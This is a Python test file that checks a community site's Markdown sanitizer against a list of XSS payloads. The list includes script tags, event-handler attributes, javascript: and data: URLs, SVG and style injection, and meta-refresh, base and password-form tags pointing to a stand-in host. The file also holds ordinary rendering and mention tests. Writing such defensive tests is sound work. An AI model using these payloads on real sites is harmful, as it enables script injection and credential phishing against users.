"""The sanitizer: Markdown in, nothing but the allow-list out, against a list of XSS
payloads (script tags, event handlers, javascript: and data: URLs, SVG, style injection,
malformed nesting, encodings)."""

from html.parser import HTMLParser

import pytest

from community import text
from community.models import CommunityProfile

PAYLOADS = [
    "<script>alert(1)</script>",
    "<SCRIPT SRC=//evil.example/x.js></SCRIPT>",
    "<scr<script>ipt>alert(1)</scr</script>ipt>",
    '<img src=x onerror="alert(1)">',
    "<body onload=alert(1)>",
    '<a href="javascript:alert(1)">x</a>',
    "[click](javascript:alert(1))",
    "[click](JaVaScRiPt:alert(1))",
    "[click](javascript&#58;alert(1))",
    "[click](  javascript:alert(1))",
    "[click](data:text/html;base64,PHNjcmlwdD5hbGVydCgxKTwvc2NyaXB0Pg==)",
    "![x](data:image/svg+xml;base64,PHN2ZyBvbmxvYWQ9YWxlcnQoMSk+)",
    '![x](x" onerror="alert(1))',
    "<svg/onload=alert(1)>",
    "<svg><script>alert(1)</script></svg>",
    "<math><mi xlink:href=javascript:alert(1)>x</mi></math>",
    '<div style="background:url(javascript:alert(1))">x</div>',
    "<style>*{background:url(//evil.example)}</style>",
    '<p style="position:fixed;inset:0">cover</p>',
    "<iframe src=//evil.example></iframe>",
    "<object data=//evil.example></object>",
    "<form action=//evil.example><input name=password type=password></form>",
    "<a href='x' onclick='alert(1)'>x</a>",
    "<<a>script>alert(1)<</a>/script>",
    "<b><i>unclosed <a href=//example.com onmouseover=alert(1)>link",
    "<!--<script>alert(1)</script>-->",
    '<meta http-equiv="refresh" content="0;url=//evil.example">',
    "<base href=//evil.example/>",
    "<details open ontoggle=alert(1)>",
    '<a href="&#106;avascript:alert(1)">x</a>',
    "[x](vbscript:msgbox(1))",
    "<template><script>alert(1)</script></template>",
    '"><script>alert(1)</script>',
    "`<script>` in code and ```\n<script>alert(1)</script>\n```",
]


class Elements(HTMLParser):
    """The elements and attributes a browser would build from the HTML (text that merely
    looks like a tag, escaped, is text)."""

    def __init__(self):
        super().__init__(convert_charrefs=True)
        self.found = []

    def handle_starttag(self, tag, attrs):
        self.found.append((tag, dict(attrs)))

    handle_startendtag = handle_starttag


def elements(html: str) -> list[tuple[str, dict]]:
    parser = Elements()
    parser.feed(html)
    parser.close()
    return parser.found


@pytest.mark.parametrize("payload", PAYLOADS)
def test_no_payload_survives(db, payload):
    html = text.render(payload)
    for tag, attrs in elements(html):
        assert tag in text.ALLOWED_TAGS, (payload, html)
        assert set(attrs) <= set(text.ALLOWED_ATTRIBUTES.get(tag, [])), (payload, html)
        if "href" in attrs:
            scheme = attrs["href"].split(":", 1)[0].strip().lower() if ":" in attrs["href"] else ""
            assert scheme in ("", "http", "https", "mailto"), (payload, html)
            assert attrs["rel"] == "nofollow ugc noopener"
    assert "<script" not in html.lower() and "<svg" not in html.lower()


def test_markdown_renders_and_links_get_rel(db):
    html = text.render(
        "**bold** _em_ ~~gone~~\n\n> quoted\n\n- one\n- two\n\n[site](https://example.com)"
    )
    assert "<strong>bold</strong>" in html and "<em>em</em>" in html and "<s>gone</s>" in html
    assert "<blockquote>" in html and "<li>one</li>" in html
    assert '<a href="https://example.com" rel="nofollow ugc noopener">site</a>' in html


def test_bare_urls_are_linked_but_not_inside_code(db):
    html = text.render("see https://example.com/page and `https://code.example`")
    assert '<a href="https://example.com/page" rel="nofollow ugc noopener">' in html
    assert "<code>https://code.example</code>" in html


def test_mentions_link_existing_members_only(db, member):
    CommunityProfile.objects.create(member=member, handle="sara_k")
    html = text.render("hi @Sara_K and @nobody_here, `@sara_k` in code, mail@sara_k.com")
    assert html.count('href="/community/members/sara_k/"') == 1
    assert "@nobody_here" in html and "<code>@sara_k</code>" in html
    assert text.mentioned_handles("@Sara_K @x @abc `@code` [@inlink](https://a.b)") == {
        "sara_k",
        "abc",
    }


def test_link_count_and_plain_excerpt(db):
    source = "[a](https://a.example) https://b.example www.c.example @mention"
    assert text.link_count(source) == 3
    assert text.plain("# Title\n\n**bold** <script>x</script> & more", limit=200) == (
        "Title bold <script>x</script> & more"
    )
    assert text.plain("word " * 100, limit=20).endswith("…")
    assert len(text.plain("word " * 100, limit=20)) == 20


def test_persian_text_survives_untouched(db):
    html = text.render("سلام **دوستان** عزیز؛ نیم‌فاصله حفظ می‌شود")
    assert "سلام <strong>دوستان</strong> عزیز؛ نیم‌فاصله حفظ می‌شود" in html
